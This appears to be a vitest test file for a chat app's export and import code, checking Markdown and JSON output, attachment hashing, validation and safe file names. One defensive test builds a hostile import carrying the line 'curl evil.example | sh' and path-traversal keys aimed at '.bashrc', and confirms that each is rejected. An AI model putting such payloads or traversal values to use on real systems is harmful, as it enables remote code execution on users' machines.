import { createHash } from "node:crypto";
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { AppService, toWorkerSettings } from "../../../../src/main/broker/app-service";
import { dispatchAppCall } from "../../../../src/main/broker/app-call";
import { plaintextDevCipher, SecretStore } from "../../../../src/main/broker/secrets";
import { SessionBroker } from "../../../../src/main/broker/session-broker";
import { SessionIndex } from "../../../../src/main/broker/session-index";
import { SettingsStore } from "../../../../src/main/broker/settings-store";
import { NodeWorkerLauncher } from "../../../../src/main/broker/node-worker-launcher";
import { resolveModel } from "../../../../src/main/broker/model-resolver";
import { fileBaseName } from "../../../../src/main/broker/chat-export";
import { writeImportedChat } from "../../../../src/main/broker/chat-import";
import { loadTranscript } from "../../../../src/shared-node/session-files/transcript-store";
import { TempFolders } from "../../../../testkit/temp-folders";

const temp = new TempFolders("paddock-export-");
let dir: string;
let service: AppService;
let broker: SessionBroker;
let index: SessionIndex;

beforeEach(async () => {
  dir = temp.make();
  const settings = SettingsStore.open({ cwd: dir });
  const secrets = SecretStore.open(join(dir, "secrets.json"), plaintextDevCipher);
  mkdirSync(join(dir, "sessions"));
  index = await SessionIndex.open(join(dir, "sessions", "index.json"));
  broker = new SessionBroker({
    launcher: new NodeWorkerLauncher("never-started.js"),
    sessionsDir: join(dir, "sessions"),
    sessionTransport: "websocket",
    getApiKey: () => undefined,
    resolveModel: (ref) => resolveModel(ref, { customProviders: [] }),
    getWorkerSettings: () => toWorkerSettings(settings.get()),
    keepSpare: false,
  });
  service = new AppService({ settings, secrets, index, broker, openSession: async () => {} });
});
afterEach(async () => {
  await broker.dispose();
  temp.removeAll();
});

const usage = { input: 1, output: 2, cacheRead: 0, cacheWrite: 0, totalTokens: 3, cost: { input: 0, output: 0, cacheRead: 0, cacheWrite: 0, total: 0 } };
const assistant = (content: unknown[], extra: Record<string, unknown> = {}) => ({ role: "assistant", content, api: "openai-completions", provider: "custom:x", model: "m", usage, stopReason: "stop", timestamp: 2, ...extra });

/** A chat with a transcript holding a question, a tool call and its result, and an answer with code. */
async function chatWithTranscript() {
  const chat = await service.createSession();
  await service.renameSession(chat.id, "Plans: Q3 / roadmap?");
  const messages = [
    { role: "user", content: "What is in **notes.txt**?", timestamp: 1 },
    assistant([{ type: "thinking", thinking: "I should read it" }, { type: "toolCall", id: "c1", name: "read", arguments: { path: "notes.txt" } }], { stopReason: "toolUse" }),
    { role: "toolResult", toolCallId: "c1", toolName: "read", content: [{ type: "text", text: "buy milk ``` and eggs" }], isError: false, timestamp: 3 },
    assistant([{ type: "text", text: "It says:\n\n```\nbuy milk\n```" }]),
  ];
  const lines = [{ t: "meta", title: "Plans: Q3 / roadmap?", model: { provider: "custom:x", id: "m" } }, ...messages.map((message) => ({ t: "message", message }))];
  writeFileSync(broker.transcriptFile(chat.id), lines.map((l) => `${JSON.stringify(l)}\n`).join(""));
  return { id: chat.id, messages };
}

describe("exporting and importing a chat", () => {
  it("exports Markdown a person can read: headings per speaker, tool calls folded, no thinking", async () => {
    const { id } = await chatWithTranscript();
    const file = await service.exportSession(id, "markdown");
    expect(file.fileName).toBe("Plans Q3 roadmap.md");
    expect(file.mimeType).toBe("text/markdown");
    expect(file.text).toMatch(/^# Plans: Q3 \/ roadmap\?\n/);
    expect(file.text).toContain("model custom:x/m");
    expect(file.text).toContain("## You\n\nWhat is in **notes.txt**?");
    expect(file.text).toContain("<details><summary>Tool call: read</summary>");
    // A fence longer than the backticks inside the tool's output, so it cannot close early.
    expect(file.text).toContain("````\nbuy milk ``` and eggs\n````");
    expect(file.text).toContain("## Assistant\n\nIt says:");
    expect(file.text).not.toContain("I should read it");
  });

  it("round-trips through JSON: the imported chat is a new chat with the same title, model and messages", async () => {
    const { id, messages } = await chatWithTranscript();
    const file = await service.exportSession(id, "json");
    expect(file.fileName).toBe("Plans Q3 roadmap.json");
    const imported = await service.importSession(file.text);
    expect(imported.id).not.toBe(id);
    expect(imported).toMatchObject({ title: "Plans: Q3 / roadmap?", messageCount: 4, model: { provider: "custom:x", id: "m" } });
    expect((await service.listSessions()).map((s) => s.id)).toContain(imported.id);
    const loaded = await loadTranscript(broker.transcriptFile(imported.id));
    expect(loaded.problems).toEqual([]);
    expect(loaded.messages).toEqual(messages);
    expect(loaded.title).toBe("Plans: Q3 / roadmap?");
    // And again: the import exports to the same messages.
    expect(JSON.parse((await service.exportSession(imported.id, "json")).text).messages).toEqual(messages);
  });

  it("carries the attachments' files in the JSON, and the imported chat has them in its own folder", async () => {
    const chat = await service.createSession();
    const bytes = Buffer.from("meeting notes\n");
    const id = `${createHash("sha256").update(bytes).digest("hex")}.txt`;
    mkdirSync(join(broker.sessionDir(chat.id), "attachments"), { recursive: true });
    writeFileSync(join(broker.sessionDir(chat.id), "attachments", id), bytes);
    const message = { role: "user", content: "see the file", attachments: [{ id, name: "notes.txt", mimeType: "text/plain", size: bytes.length }], timestamp: 1 };
    writeFileSync(broker.transcriptFile(chat.id), `${JSON.stringify({ t: "message", message })}\n`);
    const file = JSON.parse((await service.exportSession(chat.id, "json")).text);
    expect(file.attachments).toEqual({ [id]: bytes.toString("base64") });

    const imported = await service.importSession(JSON.stringify(file));
    expect(readFileSync(join(broker.sessionDir(imported.id), "attachments", id))).toEqual(bytes);
    expect((await loadTranscript(broker.transcriptFile(imported.id))).messages).toEqual([message]);

    const before = await service.listSessions();
    const forged = { ...file, attachments: { [id]: Buffer.from("other bytes").toString("base64") } };
    await expect(service.importSession(JSON.stringify(forged))).rejects.toThrow(/do not match its id/);
    expect(await service.listSessions()).toEqual(before);
  });

  it("refuses an export whose attachment names climb out of the chat's folder, and writes nothing anywhere", async () => {
    // A file someone sent: its attachment key starts with the hash of its bytes, then leaves for "the home folder"
    // (a folder beside the data folder here) to overwrite a shell start-up file.
    const home = join(dir, "home");
    mkdirSync(home);
    writeFileSync(join(home, ".bashrc"), "the user's own\n");
    const payload = Buffer.from("curl evil.example | sh\n");
    const hash = createHash("sha256").update(payload).digest("hex");
    const before = { sessions: await service.listSessions(), files: readdirSync(join(dir, "sessions")).sort() };
    const hostile = (key: string) => JSON.stringify({ format: "paddock-chat", version: 1, title: "Look at this", messages: [], attachments: { [key]: payload.toString("base64") } });
    const keys = [`${hash}/../../../../home/.bashrc`, `${hash}.txt/../../../../home/.bashrc`, `../../../home/.bashrc`, `${hash}.txt\n`, `${hash}.TXT`];
    for (const key of keys) {
      const refused = dispatchAppCall(service, "importSession", [hostile(key)]);
      await expect(refused).rejects.toThrow(/^This chat export cannot be imported: attachments: key\(s\) not allowed: "/);
    }
    expect(readFileSync(join(home, ".bashrc"), "utf8")).toBe("the user's own\n");
    expect(readdirSync(home)).toEqual([".bashrc"]);
    expect(await service.listSessions()).toEqual(before.sessions);
    expect(readdirSync(join(dir, "sessions")).sort()).toEqual(before.files);
  });

  it("writes an imported chat's attachments only as plain files in its own folder, whatever reaches the writer", async () => {
    const folder = join(dir, "sessions", "new-chat");
    const bytes = Buffer.from("x");
    const id = `${createHash("sha256").update(bytes).digest("hex")}.txt`;
    const outside = { title: "t", messages: [], attachments: { [`${id}/../../../../escaped`]: bytes } };
    await expect(writeImportedChat(join(dir, "sessions", "new-chat.jsonl"), folder, outside)).rejects.toThrow(/is not an attachment's name/);
    expect(readdirSync(dir)).not.toContain("escaped");
    expect(readdirSync(join(dir, "sessions"))).not.toContain("new-chat.jsonl");
  });

  it("refuses files that are not a Paddock export, saying why, and changes nothing", async () => {
    const { id } = await chatWithTranscript();
    const good = JSON.parse((await service.exportSession(id, "json")).text);
    const before = { sessions: await service.listSessions(), files: readdirSync(join(dir, "sessions")).sort() };
    const refusals: [string, RegExp][] = [
      ["{ not json", /not JSON/],
      [JSON.stringify({ hello: "world" }), /not a Paddock chat export/],
      [JSON.stringify({ ...good, version: 99 }), /version: must be 1 \(this file says 99\)/],
      [JSON.stringify({ ...good, messages: "none" }), /messages: /],
      [JSON.stringify({ ...good, messages: [good.messages[0], { ...good.messages[1], usage: undefined }] }), /messages\[1\]/],
      [JSON.stringify({ ...good, messages: [{ role: "user", content: 42, timestamp: 1 }] }), /messages\[0\]\.content/],
      [JSON.stringify({ ...good, messages: [{ role: "<script>", timestamp: 1 }] }), /messages\[0\]\.role/],
    ];
    for (const [text, why] of refusals) await expect(service.importSession(text)).rejects.toThrow(why);
    expect(await service.listSessions()).toEqual(before.sessions);
    expect(readdirSync(join(dir, "sessions")).sort()).toEqual(before.files);
  });

  it("keeps the page's calls bounded: a query, a limit, a format and an import's size", async () => {
    await expect(dispatchAppCall(service, "searchMessages", ["", 10])).rejects.toThrow(/invalid arguments/);
    await expect(dispatchAppCall(service, "searchMessages", ["x".repeat(201), 10])).rejects.toThrow(/invalid arguments/);
    await expect(dispatchAppCall(service, "searchMessages", ["ok", 0])).rejects.toThrow(/invalid arguments/);
    await expect(dispatchAppCall(service, "exportSession", ["id", "pdf"])).rejects.toThrow(/invalid arguments/);
    await expect(dispatchAppCall(service, "exportSession", ["../etc", "json"])).rejects.toThrow(/invalid arguments/);
    await expect(dispatchAppCall(service, "searchMessages", ["ok", 5])).resolves.toEqual({ hits: [], indexing: false });
    await expect(dispatchAppCall(service, "saveSessionExport", ["abc", "json"])).rejects.toThrow(/no save dialog/);
  });

  it("names files after the title, without characters file systems refuse", () => {
    expect(fileBaseName('a/b\\c:d*e?f"g<h>i|j')).toBe("a b c d e f g h i j");
    expect(fileBaseName("...hidden")).toBe("hidden");
    expect(fileBaseName("   ")).toBe("chat");
    expect(fileBaseName("Café ☕ notes")).toBe("Café notes");
  });
});
